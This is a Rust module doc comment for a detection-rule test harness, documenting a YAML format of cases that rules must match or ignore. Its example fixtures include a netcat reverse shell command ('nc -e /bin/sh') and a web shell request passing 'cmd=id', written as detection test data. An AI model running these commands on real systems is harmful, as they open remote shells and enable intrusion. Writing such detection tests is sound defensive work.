//! Cases beside rules: what a rule must find and what it must leave alone.
//!
//! Beside `AREA/NAME.yml` lies `AREA/NAME.cases.yml`, a list:
//!
//! ```yaml
//! - name: netcat hands out a shell
//!   match: true
//!   kind: exec
//!   fields:
//!     process.exe: /usr/bin/nc
//!     process.cmd_line: nc -e /bin/sh 127.0.0.1 4444
//!     parent.exe: /bin/bash
//!     ancestors.exe: [/usr/sbin/sshd, /usr/lib/systemd/systemd]
//!     process.uid: 0
//! - name: netcat only listens
//!   match: false
//!   kind: exec
//!   fields: {process.exe: /usr/bin/nc, process.cmd_line: nc -l 8080}
//! - name: a web shell is called with a command
//!   match: true
//!   log: nginx
//!   fields: {cs-method: GET, cs-uri-stem: /up.php, cs-uri-query: "cmd=id", sc-status: 200}
//!   message: 'GET /up.php?cmd=id HTTP/1.1'
//! ```
//!
//! - `kind` is a word of [`record::Kind`]: exec fork exit file mount net dns access memory privilege namespace module bpf
//!   io_uring signal lost scan integrity asset.
//! - `log` instead of `kind` makes a record of a log: the word of its decoder. `fields` are then the names that the
//!   decoder gives, of any form; a list gives a name several values; `log.origin` and `log.host` may stand among them.
//!   `message` is the record as it stood in the log; without it the record reads `name=value name=value …`.
//! - `scan` and `asset` events take named details: `details.NAME`, and `before.NAME` for what an asset was.
//! - `fields` are words of [`record::Field`] with their value. Numbers may be decimal, `0x…` or `0o…`; flags are
//!   `true`/`false`; addresses and hashes are text; `file.op` and `net.op` take the words of `FileOp` and `NetOp`;
//!   `net.outbound` may stand for `net.op` (`true` connect, `false` accept); `net.protocol` and `dns.type` take names too.
//! - `ancestors.exe` lists the executables above, nearest first. Its first one is the parent; `parent.exe` with it puts
//!   the parent below the list. A rule that names neither gets a process without parent.
//! - `time: 2026-02-03T04:05:06Z` (optional) is the time of the event.
//! - A field that the kind does not carry is a fault, so that a case cannot pass by accident.
//! - What ordinary hosts do lies in files of its own, without `match`: no rule may fit any of it ([`run_benign`]).
//! - A file of several rules (`---`) shares one file of cases: a `match: true` case then names its rule by `rule: UUID`.

mod event;
mod observed;
mod run;

pub use event::event;
pub use observed::log;
pub use run::{Report, run_benign, run_folder};
